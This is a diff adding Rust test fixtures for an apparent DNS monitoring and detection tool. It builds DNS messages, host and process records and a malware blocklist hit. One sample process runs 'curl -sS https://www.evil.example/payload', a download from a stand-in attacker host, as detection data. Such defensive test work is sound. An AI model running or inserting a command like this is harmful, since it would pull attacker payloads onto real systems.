@@ -1,0 +1,249 @@
+//! Messages and processes to make documents of; the benches use them too.
+
+use std::net::SocketAddr;
+use std::rc::Rc;
+use std::sync::Arc;
+
+use dnstrail::dns::{Kind, Message};
+use dnstrail::ecs::{Agent, Boot, Dns, Host, Match, Occurrence, OperatingSystem, Transport, Writer};
+use dnstrail::event::{Direction, Task, TaskKey};
+use dnstrail::process::{Container, Process};
+use dnstrail::rules::{Hit, List, Metadata};
+
+/// 2026-11-21T03:10:30.123456789Z
+pub const TIME: u64 = 1_795_230_630_123_456_789;
+
+pub fn host() -> Host {
+    Host {
+        hostname: "web-1".into(),
+        name: "web-1".into(),
+        id: Some("0123456789abcdef0123456789abcdef".into()),
+        architecture: "x86_64",
+        boot: Some(Boot { id: "88a1f0ed-5ae5-41ee-af6b-41921c311872".into() }),
+        os: OperatingSystem {
+            r#type: "linux",
+            platform: Some("debian".into()),
+            family: Some("debian".into()),
+            name: Some("Debian GNU/Linux".into()),
+            version: Some("12".into()),
+            full: Some("Debian GNU/Linux 12 (bookworm)".into()),
+            kernel: Some("6.1.0-13-amd64".into()),
+        },
+    }
+}
+
+pub fn writer() -> Writer {
+    Writer::new(&host(), &Agent::new(&host(), "1795230630"))
+}
+
+/// A message on the wire, put together by hand.
+#[derive(Clone)]
+pub struct Wire {
+    bytes: Vec<u8>,
+}
+
+impl Wire {
+    pub fn new(id: u16, flags: u16) -> Self {
+        let [id, flags] = [id, flags].map(u16::to_be_bytes);
+        Self { bytes: [id, flags, [0; 2], [0; 2], [0; 2], [0; 2]].concat() }
+    }
+
+    fn count(&mut self, section: usize) {
+        self.bytes[5 + 2 * section] += 1;
+    }
+
+    fn name(&mut self, name: &[&[u8]]) {
+        for label in name {
+            self.bytes.push(label.len().try_into().unwrap());
+            self.bytes.extend_from_slice(label);
+        }
+        self.bytes.push(0);
+    }
+
+    pub fn question(mut self, name: &[&[u8]], qtype: u16) -> Self {
+        self.count(0);
+        self.name(name);
+        self.bytes.extend([qtype.to_be_bytes(), 1_u16.to_be_bytes()].concat());
+        self
+    }
+
+    /// `section` 1 is the answer section.
+    pub fn record(mut self, section: usize, name: &[&[u8]], rtype: u16, class: u16, ttl: u32, data: &[u8]) -> Self {
+        self.count(section);
+        self.name(name);
+        self.bytes.extend([rtype.to_be_bytes(), class.to_be_bytes()].concat());
+        self.bytes.extend(ttl.to_be_bytes());
+        self.bytes.extend(u16::try_from(data.len()).unwrap().to_be_bytes());
+        self.bytes.extend_from_slice(data);
+        self
+    }
+
+    pub fn answer(self, name: &[&[u8]], rtype: u16, data: &[u8]) -> Self {
+        self.record(1, name, rtype, 1, 300, data)
+    }
+
+    pub fn cname(self, name: &[&[u8]], target: &[&[u8]]) -> Self {
+        let mut data = Self { bytes: Vec::new() };
+        data.name(target);
+        self.answer(name, 5, &data.bytes)
+    }
+
+    /// EDNS, 1232 bytes, DO.
+    pub fn edns(self, options: &[u8]) -> Self {
+        self.record(3, &[], 41, 1232, 0x8000, options)
+    }
+
+    pub fn cut(mut self, bytes: usize) -> Self {
+        self.bytes.truncate(self.bytes.len() - bytes);
+        self
+    }
+
+    pub fn message(&self) -> Message {
+        let mut message = Message::default();
+        message.decode(&self.bytes, Kind::Dns).unwrap();
+        message
+    }
+}
+
+pub const WWW: &[&[u8]] = &[b"www", b"evil", b"example"];
+pub const CDN: &[&[u8]] = &[b"edge-7", b"cdn", b"test"];
+
+/// RD
+pub const QUERY: u16 = 0x0100;
+/// QR RD RA
+pub const ANSWER: u16 = 0x8180;
+
+pub fn query() -> Message {
+    Wire::new(4711, QUERY).question(WWW, 1).edns(&[]).message()
+}
+
+pub fn answer() -> Message {
+    let mut wire = Wire::new(4711, ANSWER).question(WWW, 1).cname(WWW, CDN);
+    for last in 1..=4 {
+        wire = wire.answer(CDN, 1, &[192, 0, 2, last]);
+    }
+    wire.edns(&[]).message()
+}
+
+pub fn parent() -> Process {
+    Process {
+        key: TaskKey { pid: 4000, exec_id: 7, start: 5_000_000_000 },
+        entity_id: "5c1f0a4be6d94f10".into(),
+        start: TIME - 3_600_000_000_000,
+        executable: Some("/usr/bin/bash".into()),
+        executable_deleted: false,
+        name: "bash".into(),
+        args: Rc::new(["-bash".to_owned()]),
+        command_line: Some("-bash".into()),
+        args_cut: 0,
+        working_directory: Some("/home/ada".into()),
+        uid: 1000,
+        gid: 1000,
+        user_name: Some("ada".into()),
+        group_name: Some("ada".into()),
+        namespace_pid: None,
+        network_namespace: 4_026_531_840,
+        container: None,
+        parent: None,
+        parent_key: None,
+        parent_name: None,
+    }
+}
+
+pub fn process() -> Process {
+    Process {
+        key: TaskKey { pid: 4242, exec_id: 9, start: 9_000_000_000 },
+        entity_id: "9e107d9d372bb682".into(),
+        start: TIME - 2_000_000_000,
+        executable: Some("/usr/bin/curl".into()),
+        name: "curl".into(),
+        args: Rc::new(["curl", "-sS", "https://www.evil.example/payload"].map(str::to_owned)),
+        command_line: Some("curl -sS https://www.evil.example/payload".into()),
+        parent: Some(Rc::new(parent())),
+        parent_key: Some(parent().key),
+        parent_name: Some("bash".into()),
+        ..parent()
+    }
+}
+
+pub fn contained() -> Process {
+    Process {
+        namespace_pid: Some(12),
+        executable_deleted: true,
+        container: Some(Container {
+            id: "3d1219c7c4c5404aaa1f6d2a48adfda43d1219c7c4c5404aaa1f6d2a48adfda4".into(),
+            runtime: Some("docker"),
+        }),
+        ..process()
+    }
+}
+
+pub fn task() -> Task {
+    Task { process: process().key, tid: 4243, uid: 1000, gid: 1000, name: *b"resolver-1\0\0\0\0\0\0" }
+}
+
+pub fn client() -> SocketAddr {
+    "198.51.100.7:40123".parse().unwrap()
+}
+
+pub fn server() -> SocketAddr {
+    "203.0.113.53:53".parse().unwrap()
+}
+
+pub fn hit(indicator: &str) -> Hit {
+    Hit {
+        list: Arc::new(List {
+            id: "demo".into(),
+            name: "Demo list".into(),
+            category: Some("malware".into()),
+            reference: Some("https://lists.example/demo".into()),
+            feed: Some("Example feed".into()),
+            severity: Some(70),
+            path: "/etc/dnstrail/rules/demo.txt".into(),
+            version: "1b2c3d4e".into(),
+        }),
+        line: 12,
+        indicator: indicator.into(),
+        metadata: Some(Arc::new(Metadata {
+            uuid: Some("ff93aee5-86a1-4a61-b0e6-0cdc313d01b5".into()),
+            source: Some("Example analysts".into()),
+            description: Some("Loader, first stage".into()),
+            severity: Some(90),
+        })),
+    }
+}
+
+pub fn matches() -> Vec<Match> {
+    vec![Match { hit: hit("evil.example"), field: "dns.question.name", atomic: "www.evil.example".into() }]
+}
+
+pub fn asked<'a>(message: &'a Message, process: &'a Process, task: &'a Task) -> Dns<'a> {
+    Dns {
+        occurrence: Occurrence::Query,
+        process: Some(process),
+        task: Some(task),
+        network_namespace: 4_026_531_840,
+        transport: Transport::Udp,
+        source: client(),
+        destination: server(),
+        source_is_client: true,
+        direction: Some(Direction::Egress),
+        message_bytes: 45,
+        message,
+        query: None,
+        matches: &[],
+        alert: false,
+    }
+}
+
+pub fn answered<'a>(message: &'a Message, process: &'a Process, task: &'a Task) -> Dns<'a> {
+    Dns {
+        occurrence: Occurrence::Answer { query_time: Some(TIME - 1_234_567), late: false, duplicate: false },
+        source: server(),
+        destination: client(),
+        source_is_client: false,
+        direction: Some(Direction::Ingress),
+        message_bytes: 141,
+        ..asked(message, process, task)
+    }
+}
